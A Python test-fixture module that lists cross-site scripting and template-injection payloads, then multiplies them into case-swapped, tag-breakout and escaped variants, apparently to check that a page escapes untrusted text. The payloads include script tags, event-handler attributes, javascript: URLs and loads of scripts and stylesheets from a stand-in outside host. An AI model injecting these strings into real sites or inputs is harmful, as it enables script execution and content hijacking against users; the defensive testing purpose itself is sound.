"""Texts that want to be more than text: to show a dialog, to ask another place, to break out of where they stand."""

from html import escape
from urllib.parse import quote

ELSEWHERE = "//elsewhere.example/x"
DEED = "alert(1)"
PLAIN = (
    f"<script>{DEED}</script>",
    f"<ScRiPt>{DEED}</sCrIpT>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<scr<script>ipt>{DEED}</scr</script>ipt>",
    f"</script><script>{DEED}</script>",
    f"</title><script>{DEED}</script>",
    f"</textarea><script>{DEED}</script>",
    f"</style><script>{DEED}</script>",
    f"--><script>{DEED}</script>",
    f"<![CDATA[<script>{DEED}</script>]]>",
    f"<img src=x onerror={DEED}>",
    f"<img src=x:x onerror={DEED}//",
    f'"><img src=x onerror={DEED}>',
    f"'><img src=x onerror={DEED}>",
    f"<img src={ELSEWHERE}.png>",
    f"<img srcset='{ELSEWHERE}.png 1x'>",
    f"<img/src='x'/onerror='{DEED}'>",
    f"<IMG SRC=javascript:{DEED}>",
    f"<svg onload={DEED}>",
    f"<svg/onload={DEED}//",
    f"<svg><script>{DEED}</script></svg>",
    f"<svg><animate onbegin={DEED} attributeName=x dur=1s>",
    f"<svg><use href='{ELSEWHERE}.svg#x'></use></svg>",
    f"<math><mtext><img src=x onerror={DEED}></mtext></math>",
    f"<iframe src=javascript:{DEED}></iframe>",
    f"<iframe srcdoc='<script>{DEED}</script>'></iframe>",
    f"<object data=javascript:{DEED}></object>",
    f"<embed src=javascript:{DEED}>",
    f"<body onload={DEED}>",
    f"<details open ontoggle={DEED}>",
    f"<input autofocus onfocus={DEED}>",
    f"<video><source onerror={DEED}></video>",
    f"<audio src=x onerror={DEED}>",
    f"<marquee onstart={DEED}>",
    f"<a href=javascript:{DEED}>here</a>",
    f"javascript:{DEED}",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<style>@import '{ELSEWHERE}.css'</style>",
    f"<div style='background:url({ELSEWHERE}.png)'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><button autofocus>",
    f'" autofocus onfocus={DEED} x="',
    f"' autofocus onfocus={DEED} x='",
    f"` onmouseover={DEED} ",
    "{{ 7 * 7 }} {% raw %} {{ viewer.__class__.__mro__ }}",
    "%(words)s ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    f"&#60;script&#62;{DEED}&#60;/script&#62;",
    f"<template><script>{DEED}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={DEED}>'>",
    "\u202e<b>turned around</b>\u202c",
)
# Each as it is, in another case, behind the end of what it may stand in, and twice over; letters that were escaped
# before must come out as they went in.
PAYLOADS = tuple(
    written
    for payload in PLAIN
    for written in (payload, payload.swapcase(), f"\"'></a></p></li>{payload}", f"{escape(payload)} {quote(payload)}")
)
# Where a page shows one at a time, some stand for all: of each way to write one several.
SOME = PAYLOADS[::17]
